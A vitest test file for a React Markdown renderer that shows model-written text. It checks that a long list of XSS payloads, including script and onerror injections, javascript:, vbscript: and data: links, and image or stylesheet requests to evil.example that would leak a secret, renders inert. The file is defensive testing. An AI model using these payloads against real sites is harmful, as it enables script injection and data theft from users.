import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { Markdown } from './markdown.tsx'
import { readImageSource, safeLink } from './markdown-safety.ts'

function draw(text: string, isWriting = false): string {
  return renderToStaticMarkup(<Markdown text={text} isWriting={isWriting} />)
}

interface DrawnTag {
  readonly name: string
  readonly attributes: ReadonlyMap<string, string>
}

/** In drawn text every `<` is written as `&lt;`, so what is found here is a real element. */
function tagsOf(html: string): readonly DrawnTag[] {
  return [...html.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)].map(([, name = '', rest = '']) => ({
    name,
    attributes: new Map(
      [...rest.matchAll(/([\w:-]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [key, value]),
    ),
  }))
}

const HARMLESS_TAGS = new Set([
  ...[
    'div',
    'p',
    'br',
    'hr',
    'blockquote',
    'ul',
    'ol',
    'li',
    'h1',
    'h2',
    'h3',
    'h4',
    'h5',
    'h6',
    'strong',
    'em',
    'del',
  ],
  ...['sup', 'section', 'a', 'span', 'code', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'input', 'img'],
  ...['figure', 'figcaption', 'button', 'svg', 'path', 'rect', 'line'], // our own frame around code and images
])

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<video src="https://evil.example/x" autoplay></video>',
  '<form action="https://evil.example"><input name="q"></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!-- --><img src=x onerror=alert(1)> -->',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/x)',
  '[x](/api/sessions)',
  '[x](#user-content-fn-1)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<https://example.com/"onmouseover="alert(1)>',
  '![x](https://evil.example/p.png?secret=1)',
  '![x](//evil.example/p.png)',
  '![x](/api/system/status)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](data:text/html,<script>alert(1)</script>)',
  '![" onerror="alert(1)](https://evil.example/x.png)',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n| --- | --- |\n| a | b |',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  '- [ ] <input type="text" onfocus=alert(1) autofocus>',
  '# <a id="root" name="cookie">x</a>',
  '<x onclick=alert(1)>\n\n</x>',
]

describe('text from a model on the page', () => {
  test.each(PAYLOADS)('is inert: %j', (payload) => {
    for (const tag of tagsOf(draw(`before ${payload}`) + draw(payload))) {
      expect(HARMLESS_TAGS).toContain(tag.name)
      for (const [name, value] of tag.attributes)
        expect(isInert(tag.name, name, value), `${name}="${value}"`).toBe(true)
    }
  })

  test.each(PAYLOADS)('looks the same after it was written piece by piece: %j', (payload) => {
    for (let length = 1; length < payload.length; length += 4)
      expect(() => draw(payload.slice(0, length), true)).not.toThrow()
    expect(draw(payload, true)).toBe(draw(payload, false))
  })

  test('HTML is shown as the text it is', () => {
    expect(draw('a <b>bold</b> claim')).toContain('a &lt;b&gt;bold&lt;/b&gt; claim')
  })

  test('a link opens elsewhere and tells its host nothing', () => {
    const html = draw('[notes](https://example.com/a)')
    expect(html).toContain('href="https://example.com/a"')
    expect(html).toContain('target="_blank" rel="noopener noreferrer"')
  })

  test('a remote image is an offer with its whole address, not a request', () => {
    const html = draw('![a map](https://evil.example/p.png?secret=1)')
    expect(html).not.toContain('<img')
    expect(html).toContain('a map')
    expect(html).toContain('>https://evil.example/p.png?secret=1<')
  })

  test('an image that the text carries is shown', () => {
    expect(draw('![dot](data:image/png;base64,iVBORw0KGgo=)')).toContain(
      '<img src="data:image/png;base64,iVBORw0KGgo="',
    )
  })

  test('a definition at the end serves a link in an earlier block', () => {
    const html = draw('See [the notes][n].\n\nMore.\n\n[n]: https://example.com/n')
    expect(html).toContain('href="https://example.com/n"')
  })

  test('addresses are judged by what they are, not by how they look', () => {
    expect(safeLink('https://example.com')).toBe('https://example.com/')
    expect(safeLink('mailto:a@example.com')).toBe('mailto:a@example.com')
    expect(safeLink('java\tscript:alert(1)')).toBeNull()
    expect(safeLink('/relative')).toBeNull()
    expect(readImageSource('data:image/png;base64,AAAA" onerror="x')).toEqual({ kind: 'none' })
  })
})

function isInert(tag: string, name: string, value: string): boolean {
  if (name.startsWith('on') || name === 'style' || name === 'srcdoc' || name === 'id' || name === 'name') return false
  if (name === 'href') return tag === 'a' && /^(https?:|mailto:)/.test(value)
  if (name === 'src') return tag === 'img' && /^data:image\/(png|jpeg|gif|webp|avif);base64,/.test(value)
  return !['action', 'formaction', 'data', 'xlink:href', 'ping', 'srcset', 'poster'].includes(name)
}

describe('formulas', () => {
  test('stand between dollars, in the line and on lines of their own', () => {
    expect(draw('so $a^2$ it is')).toContain('<span data-math="waiting" class=""><code>a^2</code>')
    expect(draw('$$\na^2\n\nb\n$$')).toContain('<code>a^2\n\nb</code>')
    expect(draw('```math\na^2\n```')).toContain('data-math="waiting"')
  })

  test('money is no formula', () => {
    for (const text of ['$5 and $10', 'from $ 5 to $ 6', 'US$5, then US$7']) {
      expect(draw(text)).toBe(`<div class="prose" dir="ltr"><p>${text}</p></div>`)
    }
  })

  test('one that is still being written is text', () => {
    expect(draw('$$\na^2', true)).not.toContain('data-math')
  })
})

test('each paragraph, list and cell runs as its first letter does', () => {
  const drawn = draw('One שלום.\n\n12 **שלום** one\n\n- مرحبا\n- two\n\n```\nשלום\n```')
  expect(drawn.match(/<(?:p|ul|li|pre)(?: [^>]*)?>/g)).toEqual([
    '<p>',
    '<p dir="rtl">',
    '<ul dir="rtl">',
    '<li>',
    '<li dir="ltr">',
    expect.stringContaining('dir="ltr"'),
  ])
})
